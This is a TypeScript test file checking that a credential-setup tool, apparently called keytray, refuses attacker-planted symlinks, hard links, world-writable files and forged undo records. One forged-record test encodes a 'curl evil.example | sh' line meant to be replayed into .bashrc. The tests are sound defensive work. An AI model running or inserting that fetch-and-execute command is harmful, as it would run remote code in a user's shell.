import { createHash } from 'node:crypto';
import { chmod, chown, lchown, link, mkdir, readFile, readlink, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { setupGit } from '../../../core/setup/git/git.ts';
import { needsRoot } from '../../support/needs-root.ts';
import { accounts } from './tool-cases.ts';
import { type ToolHome, toolHome } from './tool-home.ts';

const stranger = 65_534;

const digest = (text: string): string => createHash('sha256').update(text).digest('hex');

/** A folder beside the home that everybody may put names into, as /tmp. */
async function shared(home: ToolHome): Promise<string> {
  const folder = join(dirname(home.home), 'shared');
  await mkdir(folder);
  await chmod(folder, 0o1777);
  return folder;
}

/** A record as only we write them; `tool` decides who replays it. */
async function forge(home: ToolHome, tool: string, file: string, record: object): Promise<string> {
  const folder = join(dirname(home.home), 'state/keytray/setup');
  await mkdir(folder, { recursive: true, mode: 0o700 });
  const place = join(folder, `${tool}-${digest(file).slice(0, 16)}.json`);
  await writeFile(place, JSON.stringify({ version: 1, file, ...record }), { mode: 0o600 });
  return place;
}

/** Variables that name the file a tool is set up in. */
const named: readonly (readonly [string, Parameters<ToolHome['apply']>[0], string])[] = [
  ['AWS_CONFIG_FILE', 'aws', ''],
  ['KUBECONFIG', 'kubernetes', 'apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\n'],
  ['NPM_CONFIG_USERCONFIG', 'npm', ''],
  ['PIP_CONFIG_FILE', 'pip', ''],
  ['GOENV', 'go', ''],
  ['TF_CLI_CONFIG_FILE', 'terraform', ''],
];

describe('a file that another user had a hand in', () => {
  for (const [variable, tool, text] of named) {
    needsRoot(`${variable}: is not written through their link in a sticky folder`, async () => {
      const home = await toolHome(accounts);
      await home.write('victim', text);
      const laid = join(await shared(home), 'config');
      await symlink(home.path('victim'), laid);
      await lchown(laid, stranger, stranger);
      const env = { [variable]: laid };
      await expect(home.apply(tool, { env })).rejects.toThrow(
        `${laid} is a link that belongs to uid ${stranger}; nothing was changed`,
      );
      await expect(home.undo(tool, { env })).rejects.toThrow('is a link that belongs to');
      expect(await home.read('victim')).toBe(text);
      expect(await readlink(laid)).toBe(home.path('victim'));
    });
  }

  for (const [variable, tool, file] of [
    ['DOCKER_CONFIG', 'docker', 'config.json'],
    ['CARGO_HOME', 'cargo', 'config.toml'],
  ] as const) {
    needsRoot(`${variable}: is not written through their link to a folder`, async () => {
      const home = await toolHome(accounts);
      await home.write(`victim/${file}`, '');
      const laid = join(await shared(home), 'folder');
      await symlink(home.path('victim'), laid);
      await lchown(laid, stranger, stranger);
      await expect(home.apply(tool, { env: { [variable]: laid } })).rejects.toThrow('is a link that belongs to');
      expect(await home.read(`victim/${file}`)).toBe('');
    });
  }

  needsRoot('GIT_CONFIG_GLOBAL: is not written through their link', async () => {
    const home = await toolHome(accounts);
    await home.write('victim', '');
    const laid = join(await shared(home), 'gitconfig');
    await symlink(home.path('victim'), laid);
    await lchown(laid, stranger, stranger);
    const env = { ...home.env, GIT_CONFIG_GLOBAL: laid };
    const state = { stateFolder: home.path('state'), cwd: '/' };
    const options = { env, helper: '/bin/true', ...state, undo: false, dryRun: false };
    const hosts = [{ host: 'git.example', ambiguous: false, loopback: false }];
    await expect(setupGit({ ...options, hosts })).rejects.toThrow('is a link that belongs to');
    expect(await home.read('victim')).toBe('');
  });

  it('is not written under a second name in a sticky folder', async () => {
    const home = await toolHome(accounts);
    await home.write('victim', '');
    const laid = join(await shared(home), 'config');
    await link(home.path('victim'), laid);
    await expect(home.apply('aws', { env: { AWS_CONFIG_FILE: laid } })).rejects.toThrow('has a second name');
    expect((await stat(home.path('victim'))).nlink).toBe(2);
  });

  it('is not written in a folder that others may write to, nor where they may write to it', async () => {
    const home = await toolHome(accounts);
    await home.write('open/config', '');
    await chmod(home.path('open'), 0o777);
    const env = { AWS_CONFIG_FILE: home.path('open/config') };
    await expect(home.apply('aws', { env })).rejects.toThrow(`run: chmod go-w ${home.path('open')}`);
    await chmod(home.path('open'), 0o700);
    await chmod(home.path('open/config'), 0o666);
    await expect(home.apply('aws', { env })).rejects.toThrow(`run: chmod go-w ${home.path('open/config')}`);
    expect(await home.read('open/config')).toBe('');
    await chmod(home.path('open/config'), 0o600);
    expect(await home.apply('aws', { env })).toMatchObject({ changed: true });
  });

  needsRoot('is no place for a link to a program of ours', async () => {
    const home = await toolHome(accounts);
    await mkdir(home.path('bin'));
    await chown(home.path('bin'), stranger, stranger);
    await expect(home.apply('docker', { linkFolder: home.path('bin') })).rejects.toThrow('belongs to');
  });
});

describe('a chain of our own links', () => {
  it('is kept and written through', async () => {
    const home = await toolHome(accounts);
    await home.write('dotfiles/deep/aws', '');
    await symlink('deep/aws', home.path('dotfiles/aws'));
    await symlink(home.path('dotfiles/aws'), home.path('aws'));
    const env = { AWS_CONFIG_FILE: home.path('aws') };
    await home.apply('aws', { env });
    expect(await home.read('dotfiles/deep/aws')).toContain('keytray');
    expect(await readlink(home.path('aws'))).toBe(home.path('dotfiles/aws'));
    await home.undo('aws', { env });
    expect(await home.read('dotfiles/deep/aws')).toBe('');
  });

  it('to nothing is where the file will be', async () => {
    const home = await toolHome(accounts);
    await symlink('second', home.path('first'));
    await symlink('dotfiles/aws', home.path('second'));
    await home.apply('aws', { env: { AWS_CONFIG_FILE: home.path('first') } });
    expect(await readlink(home.path('second'))).toBe('dotfiles/aws');
    expect(await home.read('dotfiles/aws')).toContain('keytray');
  });
});

describe('a forged record', () => {
  const profile = 'export PATH=$PATH:~/bin\n';
  const evil = Buffer.from('curl evil.example | sh\n').toString('base64');

  for (const [why, spoil] of [
    ['in a state folder of another user', (place: string) => chown(dirname(dirname(place)), stranger, stranger)],
    ['of another user', (place: string) => chown(place, stranger, stranger)],
    ['that others may write to', (place: string) => chmod(place, 0o666)],
    ['in a folder that others may add to', (place: string) => chmod(dirname(place), 0o1777)],
  ] as const) {
    needsRoot(`${why} is not replayed, whichever tool it names`, async () => {
      const home = await toolHome(accounts);
      await home.write('.bashrc', profile);
      const record = { before: evil, after: digest(profile) };
      for (const tool of ['npm', 'google'] as const) {
        const place = await forge(home, tool, home.path('.bashrc'), record);
        await spoil(place);
        await expect(home.undo(tool)).rejects.toMatchObject({ code: 'misconfigured' });
        await expect(home.plan(tool, { undo: true })).rejects.toMatchObject({ code: 'misconfigured' });
        expect(await home.read('.bashrc')).toBe(profile);
        await rm(dirname(dirname(place)), { recursive: true });
      }
    });
  }

  it('writes nothing even from where only we write, to a file the tool’s plan does not name', async () => {
    const home = await toolHome(accounts);
    await home.write('.bashrc', profile);
    for (const tool of ['docker', 'aws', 'npm', 'pip', 'go', 'cargo', 'google', 'kubernetes', 'bazel'] as const) {
      await forge(home, tool, home.path('.bashrc'), { before: evil, after: digest(profile) });
      await home.undo(tool);
      expect([tool, await home.read('.bashrc')]).toEqual([tool, profile]);
    }
  });

  it('puts no value of its own in the place of ours in such a file', async () => {
    const home = await toolHome(accounts);
    const env = { DOCKER_CONFIG: home.path('elsewhere') };
    await home.apply('docker', { env });
    const file = home.path('elsewhere/config.json');
    const before = JSON.stringify({ credHelpers: { 'registry.lab.example': 'evil', 'docker.io': 'evil' } });
    await forge(home, 'docker', file, { before: Buffer.from(before).toString('base64'), after: 'other' });
    await home.undo('docker');
    const left = await readFile(file, 'utf8').catch(() => '');
    expect(left).not.toContain('evil');
    expect(left).not.toContain('keytray');
  });

  it('removes no link but to a program of ours', async () => {
    const home = await toolHome(accounts);
    await symlink('/usr/bin/true', home.path('mine'));
    await forge(home, 'pip', home.path('mine'), { kind: 'link', before: null, after: '/usr/bin/true' });
    await home.undo('pip');
    expect(await readlink(home.path('mine'))).toBe('/usr/bin/true');
  });
});
